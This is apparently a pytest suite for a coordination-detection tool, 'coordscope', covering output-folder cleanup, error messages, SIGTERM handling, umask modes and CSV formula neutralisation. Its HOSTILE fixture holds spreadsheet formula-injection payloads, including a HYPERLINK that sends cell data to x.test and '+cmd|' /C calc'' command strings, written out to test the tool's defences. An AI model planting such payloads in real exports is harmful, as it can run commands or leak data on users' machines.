"""A run owns its output folder, and its outputs are safe to open.

Each case names its expected outcome: an earlier run's files removed (only coordscope's
own), a bad output path told in one line before the input is read, no temporary left
after an error or SIGTERM, modes from the umask, formula cells neutralised in every CSV.
"""

from __future__ import annotations

import csv
import os
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from typer.testing import CliRunner

import coordscope.cli as cli_module
import coordscope.outputs as outputs_module
from coordscope._output import _umask, claim_output, remove_temporaries, write_table
from coordscope.cli import app
from coordscope.datasets.simulate import simulate
from coordscope.outputs import RUN_FILES
from coordscope.runs import run_audit, run_detect, run_state_audit
from tests.conftest import FIXTURES, run_cli

runner = CliRunner()
ROOT = Path(__file__).resolve().parents[1]

#: Account ids and names a spreadsheet would run as formulas (OWASP's examples and ours).
HOSTILE = [
    ('=HYPERLINK("http://x.test/?"&A1,"open")', '=HYPERLINK("http://x.test","x")'),
    ("+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1+1)"),
    ("-2+3", "-2+3"),
    ("tab-name", "\tTAB"),  # ids lose leading white space on ingest, names keep it
    ("cr-name", "\rCR"),
]


def _cli(*args: str, **popen: Any) -> subprocess.CompletedProcess[str]:
    return run_cli(*args, **popen)


def _posts(path: Path, actors: list[tuple[str, str]]) -> Path:
    """Write a clean generic CSV: every actor reposts o1 and o2 within seconds (no rejects)."""
    rows = []
    for obj, base in (("o1", 0), ("o2", 3600)):
        for i, (actor, name) in enumerate(actors):
            rows.append(
                {
                    "event_id": f"{obj}-{i}",
                    "actor_id": actor,
                    "actor_name": name,
                    "ts": 1_709_287_200 + base + 5 * i,
                    "kind": "repost",
                    "object_id": obj,
                    "text": "",
                }
            )
    pl.DataFrame(rows).write_csv(path)
    return path


@pytest.fixture
def clean_csv(tmp_path: Path) -> Path:
    return _posts(tmp_path / "clean.csv", [(f"a{i}", f"name{i}") for i in range(4)])


def _plant_stale(out: Path) -> None:
    """What earlier runs (one killed) left, and a file of the user's."""
    out.mkdir(parents=True, exist_ok=True)
    (out / "notes.txt").write_text("mine\n")
    (out / "rejects.csv").write_text("source,record,reason\nold.csv,1,bad\n")
    (out / "summary.json").write_text('{"stale": true}\n')
    (out / "report.html").write_text("<p>an older audit</p>")
    (out / "clusters.parquet").write_bytes(b"old")
    (out / ".edges.tmp-abc123.parquet").write_bytes(b"partial")
    (out / ".summary.tmp-zz.json").write_bytes(b"{")
    (out / ".coordscope-work-old1").mkdir()
    (out / ".coordscope-work-old1" / "spill-0.arrow").write_bytes(b"x")
    (out / ".edges.tmp-keep.txt").write_text("not ours: another extension")


def test_audit_clears_an_earlier_runs_files_and_nothing_else(
    tmp_path: Path, clean_csv: Path
) -> None:
    out = tmp_path / "out"
    _plant_stale(out)
    result = run_audit([str(clean_csv)], out)
    assert result.summary["rows"]["rejected"] == 0
    names = {p.name for p in out.iterdir()}
    assert "rejects.csv" not in names  # stale: the summary says 0 rejected
    assert not any(".tmp-" in n and n != ".edges.tmp-keep.txt" for n in names)
    assert not any(n.startswith(".coordscope-work-") for n in names)
    assert (out / "notes.txt").read_text() == "mine\n"  # not coordscope's: kept
    assert (out / ".edges.tmp-keep.txt").exists()
    assert sorted(names - {"notes.txt", ".edges.tmp-keep.txt"}) == result.summary["files"]
    # summary.json is the newest file: written last
    mtimes = {p.name: p.stat().st_mtime_ns for p in out.iterdir() if not p.name.startswith(".")}
    assert mtimes["summary.json"] == max(mtimes.values())


def test_detect_into_an_audit_folder_removes_the_audits_files(
    tmp_path: Path, clean_csv: Path
) -> None:
    out = tmp_path / "out"
    _plant_stale(out)
    run_audit([str(clean_csv)], out)
    assert (out / "report.html").exists()
    summary = run_detect([str(clean_csv)], out, signals=["co_share"], window=60)
    left = sorted(p.name for p in out.iterdir())
    assert left == sorted([*summary["files"], "notes.txt", ".edges.tmp-keep.txt"])
    for name in ("report.html", "clusters.parquet", "graph.graphml", "rejects.csv"):
        assert not (out / name).exists()


def test_a_failed_rerun_leaves_no_old_summary(
    tmp_path: Path, clean_csv: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "out"
    run_audit([str(clean_csv)], out)
    assert (out / "summary.json").exists()

    def broken(*args: object, **kwargs: object) -> Path:
        raise OSError("disk full")

    monkeypatch.setattr(outputs_module, "write_report", broken)
    with pytest.raises(OSError, match="disk full"):
        run_audit([str(clean_csv)], out)
    # the old summary went first: the folder does not look complete
    assert not (out / "summary.json").exists()
    assert not [p for p in out.iterdir() if ".tmp-" in p.name or "work" in p.name]


def test_a_stale_rejects_csv_of_detect_is_removed(tmp_path: Path, clean_csv: Path) -> None:
    out = tmp_path / "out"
    run_detect([str(FIXTURES / "generic" / "posts.csv")], out, signals=["co_share"], window=60)
    assert (out / "rejects.csv").exists()
    summary = run_detect([str(clean_csv)], out, signals=["co_share"], window=60)
    assert summary["rows"]["rejected"] == 0
    assert not (out / "rejects.csv").exists()


def test_an_input_inside_the_output_folder_is_read_then_replaced(
    tmp_path: Path, clean_csv: Path
) -> None:
    out = tmp_path / "out"
    first = run_detect([str(clean_csv)], out, signals=["co_share"], window=60)
    again = run_detect([str(out / "events.parquet")], out, signals=["co_share"], window=60)
    assert again["counts"]["edges"] == first["counts"]["edges"] > 0


@pytest.mark.parametrize(
    "command",
    [
        ["audit", "{missing}", "-o", "{out}"],
        ["audit", "{missing}", "-o", "{out}", "--state", "{state}"],
        ["detect", "{missing}", "-s", "co_share", "-o", "{out}"],
        ["simulate", "-s", "organic", "-o", "{out}"],
    ],
    ids=["audit", "audit-state", "detect", "simulate"],
)
def test_an_output_path_that_is_a_file_is_told_before_the_input_is_read(
    tmp_path: Path, command: list[str]
) -> None:
    blocker = tmp_path / "taken"
    blocker.write_text("a file\n")
    subst = {
        "{missing}": str(tmp_path / "no-such-input.csv"),  # read first, this would fail
        "{out}": str(blocker),
        "{state}": str(tmp_path / "st"),
    }
    proc = _cli(*[subst.get(a, a) for a in command])
    assert proc.returncode == 2  # an output path that cannot be used: a usage error
    assert proc.stderr == f"error: --output: {blocker} is a file, not a folder\n"
    assert blocker.read_text() == "a file\n"
    assert not (tmp_path / "st").exists()  # the state was not created either


def test_ingest_output_under_a_file_or_onto_a_folder_is_one_line(tmp_path: Path) -> None:
    blocker = tmp_path / "taken"
    blocker.write_text("a file\n")
    missing = str(tmp_path / "no-such-input.csv")
    proc = _cli("ingest", missing, "-o", str(blocker / "events.parquet"))
    assert (proc.returncode, proc.stderr) == (
        2,
        f"error: --output: {blocker} is a file, not a folder\n",
    )
    folder = tmp_path / "events.parquet"
    folder.mkdir()
    proc = _cli("ingest", missing, "-o", str(folder))
    assert (proc.returncode, proc.stderr) == (
        2,
        f"error: --output: {folder} is a folder; give a file name (e.g. events.parquet)\n",
    )


def test_an_output_folder_that_cannot_be_written_is_one_line(tmp_path: Path) -> None:
    missing = str(tmp_path / "no-such-input.csv")
    blocker = tmp_path / "taken"
    blocker.write_text("a file\n")
    under_file = blocker / "out"  # what a read-only mount gives root too: no folder made
    proc = _cli("audit", missing, "-o", str(under_file))
    assert (proc.returncode, proc.stderr) == (
        2,
        f"error: --output: cannot write in {under_file}: Not a directory\n",
    )
    if os.geteuid() == 0:
        pytest.skip("root writes into a read-only folder; the case above stands in for it")
    locked = tmp_path / "locked"
    locked.mkdir()
    locked.chmod(0o555)
    try:
        proc = _cli("detect", missing, "-s", "co_share", "-o", str(locked))
    finally:
        locked.chmod(0o755)
    assert (proc.returncode, proc.stderr) == (
        2,
        f"error: --output: cannot write in {locked}: Permission denied\n",
    )


def test_sigterm_during_the_write_leaves_no_temporary(tmp_path: Path) -> None:
    events, _ = simulate("flash_viral", seed=1, size=120_000, days=2)
    source = tmp_path / "events.parquet"
    events.write_parquet(source)
    out = tmp_path / "out"
    proc = subprocess.Popen(
        [sys.executable, "-m", "coordscope", "audit", str(source), "-o", str(out)],
        cwd=ROOT,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
    )
    deadline = time.monotonic() + 300
    seen: list[Path] = []
    while proc.poll() is None and time.monotonic() < deadline:
        # an output file's temporary (".events.tmp-x.parquet"), not the writability probe
        seen = list(out.glob(".*.tmp-*.*")) if out.exists() else []
        if seen:
            break
        time.sleep(0.001)
    assert proc.poll() is None and seen, "the run ended before a temporary file was seen"
    proc.send_signal(signal.SIGTERM)
    _, err = proc.communicate(timeout=120)
    assert proc.returncode == 143 and err.strip().endswith("terminated"), err
    left = sorted(p.name for p in out.iterdir())
    assert not [n for n in left if ".tmp-" in n or n.startswith(".coordscope-work-")], left
    assert "summary.json" not in left


def test_sigterm_wrapped_in_a_polars_error_is_still_a_termination(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    stray = tmp_path / ".nodes.tmp-cut.csv"

    def killed_inside_polars(**kwargs: object) -> None:
        # what polars raises when SIGTERM's exception leaves a Python function it called
        stray.write_text("partial")
        cli_module._TERMINATED.set()
        raise pl.exceptions.ComputeError("... in _terminated\n    raise _Terminated\n")

    import coordscope._output as output_module

    monkeypatch.setattr(cli_module, "app", killed_inside_polars)
    monkeypatch.setattr(cli_module, "_TERMINATED", type(cli_module._TERMINATED)())
    output_module._register(stray)
    previous = signal.getsignal(signal.SIGTERM)
    try:
        with pytest.raises(SystemExit) as ended:
            cli_module.main()
    finally:
        signal.signal(signal.SIGTERM, previous)
    assert ended.value.code == 143
    assert capsys.readouterr().err == "terminated\n"
    assert not stray.exists()  # removed on the way out


def test_remove_temporaries_removes_what_a_cut_cleanup_left(tmp_path: Path) -> None:
    import coordscope._output as output_module

    stray = tmp_path / ".edges.tmp-cut.parquet"
    stray.write_bytes(b"partial")
    output_module._register(stray)  # as atomic_write does before writing
    assert remove_temporaries() == 1
    assert not stray.exists()
    assert remove_temporaries() == 0


def test_claim_output_removes_only_listed_names_and_their_temporaries(tmp_path: Path) -> None:
    out = tmp_path / "o"
    _plant_stale(out)
    (out / "events.parquet").write_bytes(b"old")
    claim_output(out, RUN_FILES, keep={"events.parquet"}, work=True)
    assert sorted(p.name for p in out.iterdir()) == [
        ".edges.tmp-keep.txt",
        "events.parquet",
        "notes.txt",
    ]


@pytest.mark.parametrize(
    ("mask", "file_mode", "dir_mode"), [(0o022, 0o644, 0o755), (0o077, 0o600, 0o700)]
)
def test_output_files_follow_the_umask(
    tmp_path: Path, clean_csv: Path, mask: int, file_mode: int, dir_mode: int
) -> None:
    old = os.umask(mask)
    _umask.cache_clear()
    try:
        out = tmp_path / "out"
        run_detect([str(clean_csv)], out, signals=["co_share"], window=60)
        dataset = tmp_path / "events-by-day"
        result = runner.invoke(app, ["ingest", str(clean_csv), "-o", str(dataset)])
        assert result.exit_code == 0, result.output
    finally:
        os.umask(old)
        _umask.cache_clear()
    modes = {p.name: p.stat().st_mode & 0o777 for p in out.iterdir()}
    assert modes and set(modes.values()) == {file_mode}, modes
    assert dataset.stat().st_mode & 0o777 == dir_mode
    assert {p.stat().st_mode & 0o777 for p in dataset.rglob("*.parquet")} == {file_mode}


def test_simulate_files_follow_the_umask_and_replace_an_earlier_format(tmp_path: Path) -> None:
    out = tmp_path / "sim"
    first = _cli("simulate", "-s", "organic", "--size", "1000", "-o", str(out))
    assert first.returncode == 0, first.stderr
    assert (out / "events.parquet").exists()
    second = _cli(
        "simulate", "-s", "organic", "--size", "1000", "-f", "telegram", "-o", str(out),
        preexec_fn=lambda: os.umask(0o027),
    )  # fmt: skip
    assert second.returncode == 0, second.stderr
    assert sorted(p.name for p in out.iterdir()) == ["result.json", "truth.parquet"]
    assert {p.stat().st_mode & 0o777 for p in out.iterdir()} == {0o640}


def _cells(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_formula_cells_are_neutralised_in_nodes_and_edges_csv(tmp_path: Path) -> None:
    source = _posts(tmp_path / "hostile.csv", HOSTILE)
    out = tmp_path / "out"
    run_detect([str(source)], out, signals=["co_share"], window=60)
    nodes = {row["actor_id"]: row["actor_name"] for row in _cells(out / "nodes.csv")}
    # hand-written: a leading apostrophe before =, +, -, @, tab and CR
    assert nodes == {
        '\'=HYPERLINK("http://x.test/?"&A1,"open")': '\'=HYPERLINK("http://x.test","x")',
        "'+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
        "'@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)",
        "'-2+3": "'-2+3",
        "tab-name": "'\tTAB",
        "cr-name": "'\rCR",
    }
    ends = {(row["actor_a"], row["actor_b"]) for row in _cells(out / "edges.csv")}
    assert len(ends) == 15  # every pair of the six accounts
    assert {a for pair in ends for a in pair} == set(nodes)
    assert all(row["n_keys"] == "2" for row in _cells(out / "edges.csv"))
    # the Parquet tables keep the values as read: only the CSV cells are neutralised
    edges = pl.read_parquet(out / "edges.parquet")
    assert set(edges["actor_a"]) | set(edges["actor_b"]) == {actor for actor, _ in HOSTILE}


def test_an_audit_neutralises_formulas_in_every_csv_it_writes(tmp_path: Path) -> None:
    source = _posts(tmp_path / "hostile.csv", HOSTILE)
    with source.open("a", encoding="utf-8") as handle:
        handle.write("bad,=cmd,=x,not a time,repost,o1,\n")  # a reject
    out = tmp_path / "out"
    run_audit([str(source)], out)
    for name in ("nodes.csv", "edges.csv", "rejects.csv"):
        for row in _cells(out / name):
            for value in row.values():
                assert not value[:1] or value[0] not in "=+-@\t\r", (name, value)


def test_write_table_neutralises_strings_and_leaves_numbers(tmp_path: Path) -> None:
    frame = pl.DataFrame(
        {
            "text": ["=1+2", "+1", "-1", "@a", "\tx", "\ry", "plain", "a=b", None, "'=kept"],
            "number": [-3, -2, -1, 0, 1, 2, 3, 4, 5, 6],
            "ratio": [-0.5] * 10,
            "tags": [["@a", "b"]] + [[]] * 9,
        }
    )
    got = _cells(write_table(frame, tmp_path / "t.csv"))
    assert [r["text"] for r in got] == [
        "'=1+2", "'+1", "'-1", "'@a", "'\tx", "'\ry", "plain", "a=b", "",
        "''=kept",  # one more apostrophe, so that reading back gives "'=kept" again
    ]  # fmt: skip
    assert [r["number"] for r in got] == [str(v) for v in range(-3, 7)]
    assert {r["ratio"] for r in got} == {"-0.5"}
    assert got[0]["tags"] == '["@a","b"]'  # lists are JSON arrays: never a formula
    lazy = _cells(write_table(frame.lazy(), tmp_path / "lazy.csv"))
    assert lazy == got
    tsv = (write_table(frame, tmp_path / "t.tsv")).read_text().splitlines()[1]
    assert tsv.startswith("'=1+2\t-3\t")
    # JSON lines and Parquet are data formats, not opened by spreadsheets: as given
    assert pl.read_parquet(write_table(frame, tmp_path / "t.parquet"))["text"][0] == "=1+2"


def test_ingest_clears_its_stale_rejects_and_leaves_nothing_after_an_error(
    tmp_path: Path, clean_csv: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "events.parquet"
    (tmp_path / ".events.tmp-old.parquet").write_bytes(b"partial")
    result = runner.invoke(app, ["ingest", str(FIXTURES / "generic" / "posts.csv"), "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert (tmp_path / "events.rejects.csv").exists()
    assert not (tmp_path / ".events.tmp-old.parquet").exists()
    result = runner.invoke(app, ["ingest", str(clean_csv), "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert not (tmp_path / "events.rejects.csv").exists()  # this run rejected nothing

    def broken(*args: object, **kwargs: object) -> Path:
        raise OSError("disk full")

    monkeypatch.setattr(cli_module, "write_table", broken)
    result = runner.invoke(app, ["ingest", str(FIXTURES / "generic" / "posts.csv"), "-o", str(out)])
    assert result.exit_code != 0
    # the events were written before the rejects failed: removed, and the old table too
    assert not out.exists()
    assert not [p for p in tmp_path.iterdir() if ".tmp-" in p.name or "work" in p.name]


def test_ingest_may_rewrite_its_own_input(tmp_path: Path, clean_csv: Path) -> None:
    out = tmp_path / "events.parquet"
    assert runner.invoke(app, ["ingest", str(clean_csv), "-o", str(out)]).exit_code == 0
    before = pl.read_parquet(out)
    result = runner.invoke(app, ["ingest", str(out), "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert pl.read_parquet(out).equals(before)


def test_a_state_audit_owns_its_output_folder(tmp_path: Path, clean_csv: Path) -> None:
    out = tmp_path / "out"
    _plant_stale(out)
    result = run_state_audit([str(clean_csv)], out, state=tmp_path / "st", horizon=2)
    left = sorted(p.name for p in out.iterdir())
    assert left == sorted([*result.summary["files"], "notes.txt", ".edges.tmp-keep.txt"])
